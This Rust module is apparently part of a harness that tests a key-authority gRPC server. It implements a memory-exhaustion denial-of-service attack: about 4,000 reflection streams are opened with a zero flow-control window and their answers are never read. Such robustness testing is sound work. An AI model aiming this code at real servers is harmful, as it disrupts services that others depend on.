//! Reflection answers three small questions with some hundred KiB. A stranger who never reads the answers makes the
//! server keep them.

use anyhow::Result;

use crate::attack::{Attack, hold};
use crate::grpc::{self, REFLECTION};
use crate::peer::Peer;
use crate::stage::Stage;

const CONNECTIONS: usize = 4;
const STREAMS: usize = 990;

pub(super) const ATTACK: Attack = Attack::new(
    "reflection-unread",
    "4 × 990 ServerReflectionInfo with three questions each, window 0, no token",
    |stage| {
        Box::pin(async move {
            let connections = (0..CONNECTIONS).map(|_| connection(&stage));
            futures_util::future::try_join_all(connections).await.map(drop)
        })
    },
);

/// One connection, held.
pub(super) async fn connection(stage: &Stage) -> Result<()> {
    // `file_containing_symbol`
    let question = grpc::frame_bytes(&grpc::field(4, b"keyauthority.v1.KeyAuthority"));
    let questions = question.repeat(3);
    let (mut peer, mut streams) = (Peer::open(stage, 0, None).await?, Vec::new());
    for _ in 0..STREAMS {
        match peer.send(REFLECTION, questions.clone().into(), false).await {
            Ok(stream) => streams.push(stream),
            // The answers count why.
            Err(_refused) => break,
        }
    }
    hold().await
}
